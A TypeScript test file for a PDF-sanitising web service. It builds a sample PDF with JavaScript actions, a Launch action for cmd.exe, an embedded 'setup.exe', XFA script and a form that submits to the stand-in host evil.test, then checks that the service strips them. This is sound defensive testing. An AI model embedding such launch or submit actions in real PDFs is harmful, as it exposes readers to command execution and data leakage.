import { randomUUID } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { firstObjectOf, QUARTERS, type SampleObject, samplePdf } from "./support/pdf-samples.ts";
import { programs, run } from "./support/programs.ts";
import { addressOf, type Site, startSite, upload } from "./support/service.ts";

const FIRST = firstObjectOf(2);
const SCRIPT = "app.alert(1)";
const javascript = `<</S/JavaScript/JS(${SCRIPT})>>`;
const rectangle = "/Rect[5 5 25 25]/F 4";

/** Two pages with a construct of every kind that acts, one of every kind that stays, and two attached files. */
function actingPdf(): Buffer {
  const objects: SampleObject[] = [
    { dictionary: "/Subtype/Form/BBox[0 0 20 20]", data: "1 0 1 rg 0 0 20 20 re f" },
    { dictionary: "/Type/EmbeddedFile", data: "MZ an executable file" },
    `<</Type/Filespec/F(setup.exe)/UF(setup.exe)/EF<</F ${FIRST + 1} 0 R>>>>`,
    `<</Subtype/FileAttachment${rectangle}/FS ${FIRST + 2} 0 R/AP<</N ${FIRST} 0 R>>>>`,
    `<</Subtype/Link${rectangle}/Border[0 0 0]/A<</S/Launch/F(cmd.exe)>>>>`,
    `<</Subtype/Link${rectangle}/Border[0 0 0]/A<</S/URI/URI(https://kept.test/)>>>>`,
    `<</Subtype/Link${rectangle}/Border[0 0 0]/A<</S/URI/URI(javascript:alert)/Next ${javascript}>>>>`,
    `<</Subtype/Widget/FT/Tx/T(field)/V(A value)${rectangle}/AP<</N ${FIRST} 0 R>>/AA<</K ${javascript}>>>>`,
    { data: `<xdp><script>${SCRIPT}</script></xdp>` },
    `<</First ${FIRST + 10} 0 R/Last ${FIRST + 10} 0 R/Count 1>>`,
    `<</Title(A chapter)/Parent ${FIRST + 9} 0 R/Dest[3 0 R/Fit]>>`,
    `<</Subtype/Widget/FT/Btn/T(send)/Ff 65536${rectangle}/A<</S/SubmitForm/F(http://evil.test)>>>>`,
  ];
  const annotations = [3, 4, 5, 6, 7, 11].map((index) => `${FIRST + index} 0 R`).join(" ");
  return samplePdf(
    [
      { content: QUARTERS, entries: `/Annots[${annotations}]/AA<</O ${javascript}>>` },
      { content: QUARTERS, entries: `/Annots[${FIRST + 3} 0 R ${FIRST + 5} 0 R]` },
    ],
    objects,
    {
      catalogue:
        `/OpenAction ${javascript}/AA<</WC ${javascript}>>/Collection<<>>/Outlines ${FIRST + 9} 0 R` +
        `/Names<</JavaScript<</Names[(a)${javascript}]>>/EmbeddedFiles<</Names[(a)${FIRST + 2} 0 R]>>>>` +
        `/AF[${FIRST + 2} 0 R]/AcroForm<</Fields[${FIRST + 7} 0 R ${FIRST + 11} 0 R]/XFA ${FIRST + 8} 0 R>>`,
    },
  );
}

let directory: string;
let site: Site;
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), "outrigger-actions-"));
  site = await startSite();
});
afterAll(async () => {
  await site.close();
  await rm(directory, { recursive: true });
});

/** The output of a program about a file, whose path follows `args`. */
async function ask(program: string, args: readonly string[], bytes: Buffer, after: readonly string[] = []) {
  const path = join(directory, `${randomUUID()}.pdf`);
  await writeFile(path, bytes);
  const { status, stdout, stderr } = await run(program, [...args, path, ...after]);
  expect(status, `${program}: ${stdout}${stderr}`).toBe(0);
  return stdout;
}

const qpdf = (args: readonly string[], bytes: Buffer) => ask(programs.qpdf, args, bytes, ["-"]);
const poppler = (name: string, args: readonly string[], bytes: Buffer) =>
  ask(join(dirname(programs.pdftoppm), name), args, bytes);
const pictureOf = (bytes: Buffer, page: number) =>
  poppler("pdftoppm", ["-r", "144", "-f", `${page}`, "-l", `${page}`, "-png"], bytes);

/** What other readers still find in a file. */
async function findings(bytes: Buffer): Promise<string[]> {
  const json = String(await ask(programs.qpdf, ["--json"], bytes));
  const text = String(await qpdf(["--qdf", "--object-streams=disable"], bytes));
  const acting =
    /JavaScript|Launch|SubmitForm|OpenAction|EmbeddedFile|FileAttachment|XFA|\/AA\b|\/AF\b|\/EF\b|Collection|setup\.exe|cmd\.exe|evil\.test|app\.alert|MZ an/g;
  return [
    ...(`${json}${text}${bytes.toString("latin1")}`.match(acting) ?? []),
    String(await poppler("pdfinfo", ["-js"], bytes)).trim(),
    String(await poppler("pdfdetach", ["-list"], bytes)).trim(),
  ].filter((finding) => finding !== "" && finding !== "0 embedded files");
}

async function served(on: Site, id: string, suffix: string): Promise<Buffer> {
  const response = await fetch(addressOf(on, id, suffix));
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

test("a PDF with object streams and restrictions loses its actions and files in every place where it is served, and looks the same", async () => {
  const original = await qpdf(
    ["--object-streams=generate", "--encrypt", "", "owner", "256", "--print=none", "--"],
    actingPdf(),
  );
  const { id } = await upload(site, original, "application/pdf");
  const stored = await served(site, id, "pdf");
  expect(await findings(stored)).toEqual([]);
  await ask(programs.qpdf, ["--check"], stored);
  for (const page of [1, 2]) {
    expect((await pictureOf(stored, page)).equals(await pictureOf(original, page))).toBe(true);
  }
  for (const suffix of ["pdf?page=1", "pdf?page=2", "pdf?resize=60x40", "pdf?page=1&resize=300x"]) {
    expect(await findings(await served(site, id, suffix)), suffix).toEqual([]);
  }
  const text = String(await qpdf(["--qdf", "--object-streams=disable"], stored));
  expect(text).toContain("https://kept.test/");
  expect(text).toContain("A chapter");
  expect(text).toContain("A value");
});

test("with keepPdfActions, a PDF keeps its actions and files", async () => {
  const keeping = await startSite({ keepPdfActions: true });
  try {
    const original = actingPdf();
    const { id } = await upload(keeping, original, "application/pdf");
    expect(new Set(await findings(await served(keeping, id, "pdf")))).toEqual(
      new Set(await findings(original)),
    );
    expect(await findings(original)).toContain("MZ an");
  } finally {
    await keeping.close();
  }
});
